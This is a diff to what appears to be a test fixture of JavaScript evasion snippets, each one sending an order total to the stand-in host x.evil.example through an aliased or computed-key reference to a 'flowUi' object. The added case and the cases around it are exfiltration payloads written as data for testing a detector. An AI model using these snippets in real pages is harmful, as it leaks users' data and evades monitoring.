@@ -245,6 +245,8 @@ EVASIONS = {
                                   " new Image().src = 'https://x.evil.example/?' + w.flowUi.get('order.total');",
     "flowUi through ownerDocument": "const w = document.body.ownerDocument.defaultView;"
                                     " new Image().src = 'https://x.evil.example/?' + w.flowUi.get('order.total');",
+    "flowUi by a computed key of defaultView": "const w = document.defaultView;"
+                                               " new Image().src = 'https://x.evil.example/?' + w['flow' + 'Ui'].get('order.total');",
     "flowUi from a sequence": "const f = (0, window).flowUi; new Image().src = 'https://x.evil.example/?' + f.get('order.total');",
     "flowUi alias assigned later": "let f; f = window.flowUi; new Image().src = 'https://x.evil.example/?' + f.get('order.total');",
     "flowUi held in an array": "[flowUi][0].openUrl('https://x.evil.example/?' + flowUi.get('order.total'));",
